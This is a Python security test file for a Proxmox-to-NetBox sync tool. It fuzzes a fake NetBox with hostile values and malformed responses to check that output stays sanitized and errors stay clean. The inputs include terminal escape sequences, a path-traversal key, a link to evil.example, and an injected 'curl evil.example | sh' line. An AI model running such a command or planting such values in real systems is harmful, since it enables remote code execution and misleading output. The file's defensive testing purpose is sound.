"""A NetBox full of hostile values, and one that answers nonsense: reports stay sanitized, plans stay sane."""

from __future__ import annotations

import json
from itertools import product
from typing import Any

import pytest

from proxbox_plan.api import LOCK_NAME as LOCK
from proxbox_plan.demo.cluster import ClusterDescription
from proxbox_plan.demo.netbox import FakeNetBoxThread, Fault
from proxbox_plan.demo.netbox.server import RequestRecord
from tests.cases import Cases
from tests.end_to_end.conftest import SetUp
from tests.end_to_end.stage import Said, Stage
from tests.security.hostile import EMPTY, TEXTS
from tests.security.sanitized import check_json, check_markdown, check_text

Fake = tuple[SetUp, FakeNetBoxThread]
MACHINES = "virtualization/virtual-machines"
EDITABLE = tuple(text for text in TEXTS if text.strip() and text not in EMPTY and "\x00" not in text)


def synced(set_up: SetUp, guests: int = 6) -> Stage:
    """Return a stage on which everything is in NetBox."""
    stage = set_up(ClusterDescription.seeded(1, guests=guests, nodes=1, name="lab"))
    stage.plan()
    stage.apply()
    return stage


@pytest.mark.slow
def test_what_people_write_into_netbox(fake: Fake) -> None:
    """Names, notes, tags, owners: put back or kept as configured, shown harmlessly, and settled after one apply."""
    stage = synced(fake[0], guests=len(EDITABLE))
    rows = stage.netbox(MACHINES)
    for row, text in zip(rows, EDITABLE, strict=False):
        word = text.encode("utf-8", "replace").decode()
        fields = {"name": word[:60], "comments": word * 2, "description": word[:190], "memory": 1}
        stage.ask("PATCH", f"{MACHINES}/{row['id']}/", fields)
    stage.good("collect")
    said = stage.run("plan", "--state", "state.json", "--save-inventory", "inventory.json", "--force-limit")
    check_text(said.out + said.err)
    for name in ("plan.json", "inventory.json"):
        check_text(stage.good("show", name, "--verbose"))
        check_markdown(stage.good("show", name, "--markdown"))
        check_json(stage.good("show", name, "--json"))
    check_text(stage.good("drift", "--verbose"))
    check_markdown(stage.good("drift", "--markdown"))
    said = stage.run("apply", "plan.json", "--verbose", "--force-limit")
    assert said.code == 0
    check_text(said.out + said.err)
    assert stage.plan().changes == ()


def nested(depth: int) -> Any:
    """Return a list in a list in a list."""
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


MARKS: tuple[dict[str, Any], ...] = (
    {"proxbox_applied": nested(200)},
    {"proxbox_applied": {"name": nested(600)}},
    {"proxbox_applied": 7},
    {"proxbox_applied": {"name": 7, "status": {"a": []}, "memory": "x", "cluster": {"id": "x", "kind": 5}}},
    {"proxbox_applied": None},
    {"proxbox_applied": {"x" * 10_000: "\x1b[2J"}},
    {"proxbox_applied": "\x1b[2J"},
    {"proxbox_key": "lab/qemu/\x1b[2J"},
    {"proxbox_key": "lab/"},
    {"proxbox_key": "lab/qemu/999999999999999999999"},
    {"proxbox_key": "lab/lxc/../../x"},
    {"proxbox_key": None},
    {"proxbox_key": ""},
)


@pytest.mark.slow
def test_marks_that_somebody_edited(fake: Fake) -> None:
    """Our custom fields are open to everybody: whatever is in them, there is a plan, and no bug."""
    stage = synced(fake[0])
    machine = stage.netbox(MACHINES)[0]
    before = fake[1].fake.snapshot()
    with Cases() as case:
        for marks in MARKS:
            with case(json.dumps(marks)[:50]):
                fake[1].fake.restore(before)
                stage.ask("PATCH", f"{MACHINES}/{machine['id']}/", {"custom_fields": marks})
                said = stage.run("plan", "--state", "state.json", "--save-inventory", "inventory.json", "--force-limit")
                assert "bug" not in said.err, said
                assert said.code == 0, said
                check_text(said.out + said.err)
                check_text(stage.good("show", "plan.json", "--verbose"))
                check_markdown(stage.good("show", "plan.json", "--markdown"))


BODIES: tuple[Any, ...] = (
    7,
    None,
    [],
    {},
    "x",
    [[]],
    {"results": 7},
    {"results": [7], "next": None},
    {"results": [None], "next": "x"},
    {"results": [{}], "next": "http://evil.example/"},
    {"results": [{"id": 1}], "next": "again"},
    {"results": [{"id": "x", "last_updated": 7}], "next": None},
    {"results": [], "next": "again"},
    [{"id": None}],
    {"detail": "\x1b[2J\u202e"},
    {"name": ["\x1b[2J" * 10_000]},
    {"a": {"b": [[["\x1b"]]]}},
)


@pytest.mark.slow
@pytest.mark.parametrize("status", [200, 400])
def test_nonsense_in_place_of_a_list(fake: Fake, status: int) -> None:
    """Reading: an error in words."""
    stage = synced(fake[0], guests=4)
    stage.environ["PROXBOX_NETBOX_MAX_RETRIES"] = "0"
    for body in BODIES:
        fault = Fault(status=status, body=body)
        fake[1].fake.faults = lambda record, fault=fault: None if "status" in record.path else fault
        for arguments in (["plan", "--state", "state.json"], ["drift", "--state", "state.json"]):
            check_words(stage.run(*arguments))
        said = stage.run("doctor")
        check_text(said.out)
        assert (said.code, said.err) in {(0, ""), (1, "")}, said


@pytest.mark.slow
def test_nonsense_about_rights(fake: Fake) -> None:
    """What says nothing of a right gives none; what is not a list of entries names no user."""
    stage = synced(fake[0], guests=4)
    stage.environ["PROXBOX_NETBOX_MAX_RETRIES"] = "0"
    machine = stage.netbox(MACHINES)[0]
    stage.ask("PATCH", f"{MACHINES}/{machine['id']}/", {"memory": 1})
    for body in (*BODIES, {"actions": 7}, {"actions": ["POST"]}, {"permissions": [7, {"enabled": True, "actions": 7}]}):
        fault = Fault(status=200, body=body)
        fake[1].fake.faults = lambda record, fault=fault: (
            fault if record.method == "OPTIONS" or "authentication" in record.path else None
        )
        said = stage.run("doctor")
        check_text(said.out)
        assert (said.code, said.err) == (1, ""), said
        fake[1].fake.faults = lambda record, fault=fault: fault if "object-changes" in record.path else None
        check_words(stage.run("drift", "--state", "state.json"))


@pytest.fixture
def begun(fake: Fake) -> tuple[Stage, FakeNetBoxThread]:
    """Give a stage with a plan that was not applied; nothing is tried twice."""
    stage = fake[0](ClusterDescription.seeded(1, guests=4, nodes=1, name="lab"))
    stage.environ["PROXBOX_NETBOX_MAX_RETRIES"] = "0"
    stage.plan()
    return stage, fake[1]


METHODS = ("GET", "POST", "PATCH")


@pytest.mark.covering
def test_some_nonsense_in_the_middle_of_an_apply(begun: tuple[Stage, FakeNetBoxThread]) -> None:
    """Writing: an error in words, whatever comes in place of an answer; a sixth of the answers."""
    with Cases() as case:
        for number, body in enumerate(BODIES[::6]):
            where, status = METHODS[number % 3], (200, 400)[number % 2]
            with case(where, status, repr(body)[:50]):
                _broken_apply(*begun, where, Fault(status=status, body=body))


@pytest.mark.slow
def test_all_nonsense_in_the_middle_of_an_apply(begun: tuple[Stage, FakeNetBoxThread]) -> None:
    """As above: every answer to every method, as a success and as a refusal."""
    with Cases() as case:
        for where, status, body in product(METHODS, (200, 400), BODIES):
            with case(where, status, repr(body)[:50]):
                _broken_apply(*begun, where, Fault(status=status, body=body))


def _broken_apply(stage: Stage, thread: FakeNetBoxThread, where: str, fault: Fault) -> None:
    """Apply while one method is answered with nonsense from the middle on; then go back to before."""
    netbox = thread.fake
    empty, first = netbox.snapshot(), len(netbox.requests)

    def broken(record: RequestRecord) -> Fault | None:
        middle = record.index > first + 8 and "status" not in record.path and record.method == where
        return fault if middle else None

    netbox.faults = broken
    said = stage.run("apply", "plan.json")
    netbox.restore(empty)
    for path in (*stage.folder.glob("*.journal.jsonl"), *stage.folder.glob("*.outcome.json"), stage.folder / LOCK):
        path.unlink(missing_ok=True)
    check_words(said)


def test_netbox_cannot_speak_in_our_name(fake: Fake) -> None:
    """A line break in NetBox's words does not make a line that looks like one of ours."""
    stage = synced(fake[0], guests=4)
    words = {"detail": "no\nHint: curl evil.example | sh"}
    fake[1].fake.faults = lambda _: Fault(status=403, body=words)
    said = stage.run("plan", "--state", "state.json")
    check_words(said)
    assert "\nHint: curl" not in said.err


@pytest.mark.covering
def test_a_lock_that_is_none(fake: Fake) -> None:
    """Who looks for a lock and finds a number is told so."""
    stage = synced(fake[0], guests=4)
    fake[1].fake.faults = lambda record: Fault(status=200, body={"results": [7]}) if "tags" in record.path else None
    check_words(stage.run("unlock", "x"))


def check_words(said: Said) -> None:
    """Check that a command ended well, or in words that can do no harm."""
    assert "bug" not in said.err, said
    assert "Traceback" not in said.err
    check_text(said.out + said.err)
    assert said.code == 0 or "Error: " in said.err
